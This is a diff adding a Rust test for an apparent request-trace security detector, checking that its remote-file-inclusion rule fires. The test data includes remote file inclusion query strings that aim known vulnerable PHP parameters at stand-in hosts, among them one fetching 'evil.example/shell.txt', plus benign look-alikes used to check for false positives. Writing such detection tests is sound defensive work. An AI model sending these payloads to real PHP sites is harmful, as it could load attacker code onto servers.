@@ -104,6 +104,57 @@ fn absolute_path_in_a_name_parameter() {
     );
 }
 
+/// The rule ids that one server span with these query parameters raises.
+fn query_rules(d: &Detector, query: &str) -> Vec<String> {
+    let t = TenantId::new("t").unwrap();
+    let rs = batch(
+        "legacy",
+        vec![span(
+            1,
+            1,
+            None,
+            SpanKind::Server,
+            vec![kv("url.path", "/index.php"), kv("url.query", query)],
+        )],
+    );
+    d.inspect(&t, &[rs], 1)
+        .into_iter()
+        .map(|f| f.rule_id)
+        .collect()
+}
+
+#[test]
+fn remote_inclusion_through_known_parameter_names() {
+    let d = detector();
+    for q in [
+        "mosConfig_absolute_path=https://foo.bar",
+        "_CONF[path]=https://foo.bar",
+        "_CONF%5Bpath%5D=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
+        "option=com_x&GALLERY_BASEDIR=ftp://evil.example/x.txt",
+        "phpbb_root_path=HTTPS://evil.example/",
+    ] {
+        let got = query_rules(&d, q);
+        assert!(
+            got.iter().any(|r| r == "rfi-ip-url"),
+            "missed {q:?}: {got:?}"
+        );
+    }
+    // The same URL under another name is a link; a path under the name is the normal use.
+    for q in [
+        "redirect=https://foo.bar",
+        "absolute_path=https://foo.bar",
+        "mosConfig_absolute_path=/var/www/html",
+        "mosConfig_absolute_path=https://",
+        "note=mosConfig_absolute_path%3Dhttps://foo.bar",
+    ] {
+        let got = query_rules(&d, q);
+        assert!(
+            !got.iter().any(|r| r == "rfi-ip-url"),
+            "false positive on {q:?}: {got:?}"
+        );
+    }
+}
+
 #[test]
 fn overlong_utf8_dot_dot() {
     let d = detector();
